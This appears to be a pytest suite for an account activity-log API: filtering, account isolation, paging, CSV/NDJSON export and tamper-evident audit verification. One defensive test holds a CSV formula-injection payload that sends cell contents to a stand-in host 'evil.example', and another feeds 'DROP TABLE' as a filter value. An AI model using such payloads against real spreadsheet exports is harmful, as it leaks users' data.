"""The activity log through a real server: ``GET /account/events`` (filters, Range pages, the
two-account boundary, the credential recorded), its CSV and NDJSON exports, sealing by the
server's frequent job, and ``ostiary audit verify`` against the server's database."""

from __future__ import annotations

import csv
import io
import json
import secrets
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.support.factories import PASSWORD, Factory, UserAccount
from tests.support.ostiary_cli import OstiaryCLI
from tests.support.server import ServerProcess, run_cli, start_server

EVENTS = "/account/events"


@pytest.fixture
def api(server: ServerProcess, account: UserAccount) -> Iterator[httpx.Client]:
    with server.client(account.api_key) as client:
        yield client


def _events(client: httpx.Client, **params: str) -> list[dict[str, Any]]:
    response = client.get(EVENTS, params=params, headers={"Range": "created_at ..; max=1000"})
    assert response.status_code == 200, response.text
    events: list[dict[str, Any]] = response.json()
    return events


def _new_app(client: httpx.Client) -> str:
    name = f"act-{secrets.token_hex(4)}"
    assert client.post("/apps", json={"name": name}).status_code == 201
    return name


def test_what_the_account_did_is_listed_newest_first_with_its_credential(
    server: ServerProcess, api: httpx.Client, account: UserAccount
) -> None:
    name = _new_app(api)
    assert api.patch(f"/apps/{name}/config-vars", json={"SECRET": "hunter2"}).status_code == 200
    key = api.get("/oauth/authorizations/~").json()
    events = _events(api)
    assert [e["action"] for e in events[:2]] == ["app:config-vars:update", "app:create"]
    assert events[0]["created_at"] > events[1]["created_at"]
    created = events[1]
    assert created["actor"] == {"id": account.id}
    assert created["outcome"] == "success"
    assert created["authorization"]["id"] == key["id"]
    assert created["authorization"]["token"] == key["access_token"]["token"]  # redacted form
    assert "**********" in created["authorization"]["token"]
    assert created["source_ip"] == "127.0.0.1"
    assert created["user_agent"].startswith("python-httpx")
    assert created["request_id"]
    assert created["app"]["id"] == api.get(f"/apps/{name}").json()["id"]
    assert created["target"]["type"] == "app"
    # No secret anywhere: neither the token nor a config var's value.
    body = api.get(EVENTS).text
    assert account.api_key not in body
    assert "hunter2" not in body


def test_another_accounts_events_are_never_listed(
    server: ServerProcess,
    factory: Factory,
    account: UserAccount,
    other_account: UserAccount,
) -> None:
    with server.client(other_account.api_key) as other:
        other_app = _new_app(other)
        other_ids = {e["id"] for e in _events(other)}
    with server.client(account.api_key) as mine:
        _new_app(mine)
        listed = _events(mine)
        assert other_ids.isdisjoint({e["id"] for e in listed})
        assert all(
            account.id in ((e["actor"] or {}).get("id"), (e["subject"] or {}).get("id"))
            for e in listed
        )
        # Not by filter either: another account's app by name is not found, by id is empty.
        assert mine.get(EVENTS, params={"app": other_app}).status_code == 404
        with server.client(other_account.api_key) as other:
            other_app_id = other.get(f"/apps/{other_app}").json()["id"]
        assert _events(mine, app=other_app_id) == []
    with server.client(other_account.api_key) as other:
        key_id = other.get("/oauth/authorizations/~").json()["id"]
    with server.client(account.api_key) as mine:
        assert _events(mine, authorization_id=key_id) == []


def test_a_failed_sign_in_against_the_account_is_in_its_log_and_no_one_elses(
    server: ServerProcess, account: UserAccount, other_account: UserAccount
) -> None:
    with server.client() as anonymous:
        refused = anonymous.post(
            "/oauth/authorizations",
            auth=(account.email, "not the password"),
            headers={"User-Agent": "Mallory/1.0"},
        )
    assert refused.status_code == 401
    with server.client(account.api_key) as mine:
        failures = _events(mine, action="auth:password:failure")
    assert len(failures) == 1
    assert failures[0]["outcome"] == "failure"
    assert failures[0]["user_agent"] == "Mallory/1.0"
    assert PASSWORD not in json.dumps(failures)
    assert "not the password" not in json.dumps(failures)
    with server.client(other_account.api_key) as other:
        assert _events(other, action="auth:password:failure") == []


def test_a_revoked_token_tried_again_is_in_its_owners_log(
    server: ServerProcess, factory: Factory, api: httpx.Client, other_account: UserAccount
) -> None:
    authorization_id, token = factory.token(factory_account(api), ["global"])
    assert api.delete(f"/oauth/authorizations/{authorization_id}").status_code == 200
    with server.client(token) as dead:
        assert dead.get("/account").status_code == 401
    tried = _events(api, action="auth:failure")
    assert [e["target"] for e in tried] == [{"type": "authorization", "id": authorization_id}]
    assert tried[0]["outcome"] == "failure"
    assert tried[0]["authorization"]["id"] == authorization_id
    assert token not in json.dumps(tried)
    with server.client(other_account.api_key) as other:
        assert _events(other, action="auth:failure") == []


def factory_account(api: httpx.Client) -> UserAccount:
    """The account behind ``api``, as the factory takes it."""
    me = api.get("/account").json()
    return UserAccount(me["id"], me["email"], "")


def test_filters(api: httpx.Client) -> None:
    first, second = _new_app(api), _new_app(api)
    assert api.patch(f"/apps/{first}", json={"maintenance": True}).status_code == 200
    assert {e["action"] for e in _events(api, app=first)} == {"app:create", "app:update"}
    assert [e["action"] for e in _events(api, app=second)] == ["app:create"]
    assert {e["action"] for e in _events(api, action="app:*")} >= {"app:create", "app:update"}
    assert [e["action"] for e in _events(api, action="app:update")] == ["app:update"]
    assert _events(api, action="ap_:*") == []  # LIKE's wildcards match only themselves
    everything = _events(api)
    middle = everything[1]["created_at"]
    assert [e["id"] for e in _events(api, until=middle)] == [e["id"] for e in everything[1:]]
    assert [e["id"] for e in _events(api, since=middle)] == [e["id"] for e in everything[:2]]
    assert _events(api, since="2999-01-01T00:00:00Z") == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"until": "2026-13-01T00:00:00Z"}, "until"),
        ({"since": "2026-12-02T00:00:00Z", "until": "2026-12-01T00:00:00Z"}, "since"),
        ({"action": "token:*:x"}, "action"),
        ({"action": "DROP TABLE"}, "action"),
    ],
)
def test_bad_filters_are_422_invalid_params(
    api: httpx.Client, params: dict[str, str], field: str
) -> None:
    response = api.get(EVENTS, params=params)
    assert response.status_code == 422
    assert response.json()["id"] == "invalid_params"
    assert field in response.json()["message"]


def test_range_pages_newest_first_without_gaps_or_repeats(api: httpx.Client) -> None:
    for _ in range(5):
        _new_app(api)
    everything = [e["id"] for e in _events(api)]
    seen: list[str] = []
    header = "created_at ..; order=desc, max=2"
    statuses = []
    for _ in range(50):
        response = api.get(EVENTS, headers={"Range": header})
        statuses.append(response.status_code)
        seen += [e["id"] for e in response.json()]
        assert response.headers["accept-ranges"] == "created_at"
        if "next-range" not in response.headers:
            break
        header = response.headers["next-range"]
    assert seen == everything
    assert set(statuses[:-1]) == {206}
    assert statuses[-1] == 200
    assert api.get(EVENTS, headers={"Range": "created_at nonsense..; max=2"}).status_code == 400
    # Oldest first when asked, and Next-Range keeps the order.
    ascending: list[str] = []
    header = "created_at ..; max=2, order=asc"
    for _ in range(50):
        response = api.get(EVENTS, headers={"Range": header})
        ascending += [e["id"] for e in response.json()]
        if "next-range" not in response.headers:
            break
        header = response.headers["next-range"]
    assert ascending == everything[::-1]


def test_scopes_global_or_identity(
    server: ServerProcess, factory: Factory, api: httpx.Client
) -> None:
    me = factory_account(api)
    for scopes, status in ((["identity"], 200), (["read"], 403), (["write-protected"], 403)):
        _, token = factory.token(me, scopes)
        with server.client(token) as scoped:
            assert scoped.get(EVENTS).status_code == status, scopes


def test_the_api_version_is_still_checked_but_exports_need_none(
    server: ServerProcess, account: UserAccount
) -> None:
    headers = {"Authorization": f"Bearer {account.api_key}"}
    missing = httpx.get(f"{server.url}{EVENTS}", headers=headers)
    assert missing.status_code == 400
    assert missing.json()["id"] == "missing_version"
    plain = httpx.get(f"{server.url}{EVENTS}", headers={**headers, "Accept": "application/json"})
    assert plain.status_code == 400
    exported = httpx.get(f"{server.url}{EVENTS}", headers={**headers, "Accept": "text/csv"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    anonymous = httpx.get(f"{server.url}{EVENTS}", headers={"Accept": "text/csv"})
    assert anonymous.status_code == 401


def test_exports_stream_the_whole_filtered_range(
    server: ServerProcess, api: httpx.Client, account: UserAccount
) -> None:
    for _ in range(4):
        _new_app(api)
    listed = _events(api, action="app:create")
    base = {"Authorization": f"Bearer {account.api_key}", "Range": "created_at ..; max=1"}
    ndjson = httpx.get(
        f"{server.url}{EVENTS}",
        params={"action": "app:create"},
        headers={**base, "Accept": "application/x-ndjson"},
    )
    assert ndjson.status_code == 200
    # Streamed as it is read: chunked, never held whole to compute an ETag.
    assert ndjson.headers.get("transfer-encoding") == "chunked"
    assert "etag" not in ndjson.headers
    lines = [json.loads(line) for line in ndjson.text.splitlines()]
    assert lines == listed  # the same documents, every one of them, not one page
    exported = httpx.get(
        f"{server.url}{EVENTS}",
        params={"action": "app:create"},
        headers={**base, "Accept": "text/csv"},
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["id"] for r in rows] == [e["id"] for e in listed]
    assert rows[0]["action"] == "app:create"
    assert rows[0]["token"] == listed[0]["authorization"]["token"]
    assert account.api_key not in exported.text


def test_a_csv_export_defuses_a_formula_an_attacker_chose(
    server: ServerProcess, account: UserAccount
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    with server.client() as anonymous:
        anonymous.post(
            "/oauth/authorizations",
            auth=(account.email, "wrong"),
            headers={"User-Agent": formula},
        )
    exported = httpx.get(
        f"{server.url}{EVENTS}",
        params={"action": "auth:password:failure"},
        headers={"Authorization": f"Bearer {account.api_key}", "Accept": "text/csv"},
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["user_agent"] == "'" + formula
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def _sealed(api: httpx.Client, event_id: str, timeout: float = 20.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = [e for e in _events(api) if e["id"] == event_id]
        if found and found[0]["seq"]:
            return found[0]
        time.sleep(0.5)
    raise AssertionError(f"event {event_id} was not sealed in {timeout} s")


def test_the_server_seals_events_and_audit_verify_checks_them(
    server: ServerProcess, api: httpx.Client
) -> None:
    _new_app(api)
    newest = _events(api)[0]
    assert newest["seq"] is None or newest["seq"] > 0  # inserted unsealed, sealed soon after
    sealed = _sealed(api, newest["id"])
    assert sealed["seq"] >= 1
    verified = run_cli("audit", "verify", "--json", env=server.env)
    report = json.loads(verified.stdout)
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert report["intact"] is True
    assert report["checked"] >= sealed["seq"]


def test_audit_verify_fails_on_an_event_edited_in_the_database(tmp_path: Path) -> None:
    own = start_server(tmp_path / "tampered", settings={"OSTIARY_USAGE_FLUSH_SECONDS": "0.5"})
    try:
        made = Factory(own.data_dir)
        try:
            user = made.account("tamper")
        finally:
            made.close()
        with own.client(user.api_key) as client:
            _new_app(client)
            _new_app(client)
            newest = _events(client)[0]
            _sealed(client, newest["id"])
        assert run_cli("audit", "verify", env=own.env).returncode == 0
        with sqlite3.connect(own.data_dir / "ostiary.db") as db:
            db.execute("UPDATE events SET ip = '198.51.100.9' WHERE id = ?", (newest["id"],))
        tampered = run_cli("audit", "verify", env=own.env)
        assert tampered.returncode == 1
        assert "TAMPERED" in tampered.stdout
        assert newest["id"] in tampered.stdout
        assert "modified" in tampered.stdout
        # Moving the head back (to hide the newest events) breaks the chain record's MAC.
        with sqlite3.connect(own.data_dir / "ostiary.db") as db:
            db.execute("UPDATE event_chain SET head_seq = head_seq - 1")
        rewound = run_cli("audit", "verify", "--json", env=own.env)
        assert rewound.returncode == 1
        assert json.loads(rewound.stdout)["problem"] == "forged"
    finally:
        own.stop()


def test_the_cli_lists_and_exports_events(
    server: ServerProcess, api: httpx.Client, account: UserAccount, tmp_path: Path
) -> None:
    name = _new_app(api)
    home = tmp_path / "home"
    home.mkdir()
    cli = OstiaryCLI(server, home)
    table = cli.run("events", "--action", "app:*", api_key=account.api_key)
    assert table.returncode == 0, table.stderr
    assert "app:create" in table.stdout
    assert "127.0.0.1" in table.stdout
    listed = cli.run("events", "--json", api_key=account.api_key)
    assert json.loads(listed.stdout)[0]["action"] == "app:create"
    lines = cli.run("events", "--format", "jsonl", "--app", name, api_key=account.api_key)
    assert [json.loads(line)["action"] for line in lines.stdout.splitlines()] == ["app:create"]
    exported = cli.run("events", "--format", "csv", "--since", "2000-01-01T00:00:00Z",
                       api_key=account.api_key)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert len(rows) == len(_events(api))
    bad = cli.run("events", "--since", "tuesday", api_key=account.api_key)
    assert bad.returncode == 1
    assert "since must be an RFC 3339 time" in bad.stderr
    assert "Traceback" not in bad.stderr


def test_a_graceful_stop_seals_what_is_waiting(tmp_path: Path) -> None:
    own = start_server(tmp_path / "stopping", settings={"OSTIARY_USAGE_FLUSH_SECONDS": "3600"})
    try:
        made = Factory(own.data_dir)
        try:
            user = made.account("stopping")
        finally:
            made.close()
        with own.client(user.api_key) as client:
            _new_app(client)
            assert all(e["seq"] is None for e in _events(client))  # no run for an hour
    finally:
        own.stop()
    with sqlite3.connect(own.data_dir / "ostiary.db") as db:
        unsealed = db.execute("SELECT count(*) FROM events WHERE seq IS NULL").fetchone()[0]
        sealed = db.execute("SELECT count(*) FROM events WHERE seq IS NOT NULL").fetchone()[0]
    assert (unsealed, sealed > 0) == (0, True)
    assert run_cli("audit", "verify", env=own.env).returncode == 0


def test_what_another_account_did_to_this_one_shows_without_its_request(
    server: ServerProcess, account: UserAccount, other_account: UserAccount
) -> None:
    with server.client(other_account.api_key) as owner:
        owner.headers["User-Agent"] = "owner-agent/1"
        name = _new_app(owner)
        added = owner.post(f"/apps/{name}/collaborators", json={"user": account.email})
        assert added.status_code == 201
        owner_token = owner.get("/oauth/authorizations/~").json()["access_token"]["token"]
    with server.client(account.api_key) as mine:
        shared = _events(mine, action="app:collaborator:create")
        everything = mine.get(EVENTS).text
        creations = _events(mine, action="app:create")
    assert len(shared) == 1
    assert shared[0]["actor"] == {"id": other_account.id}
    assert shared[0]["subject"] == {"id": account.id}
    assert shared[0]["app"] is not None
    # The owner's request and credential are the owner's: not in the collaborator's log.
    assert (shared[0]["source_ip"], shared[0]["user_agent"], shared[0]["request_id"]) == (
        None,
        None,
        None,
    )
    assert shared[0]["authorization"] is None
    assert owner_token not in everything
    assert "owner-agent" not in everything
    # The owner's own app:create is not the collaborator's business at all.
    assert all(e["actor"]["id"] == account.id for e in creations)
